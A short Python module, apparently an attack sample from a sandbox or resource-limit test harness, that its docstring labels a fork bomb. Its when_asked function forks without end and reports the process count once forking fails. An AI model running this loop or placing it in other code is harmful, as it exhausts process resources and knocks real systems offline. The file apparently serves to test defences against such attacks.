"""A fork bomb."""

import contextlib
import os
from http.server import ThreadingHTTPServer

from tells import tell


def at_start():
    """Room in the queue of connections: a full one is refused, which is another attack (port-backlog)."""
    ThreadingHTTPServer.request_queue_size = 128


def when_asked():
    tell(processes=1)
    counted = False
    while True:
        try:
            os.fork()
        except OSError:
            if not counted:
                counted = True
                with contextlib.suppress(OSError):
                    tell(processes=sum(name.isdigit() for name in os.listdir("/proc")))
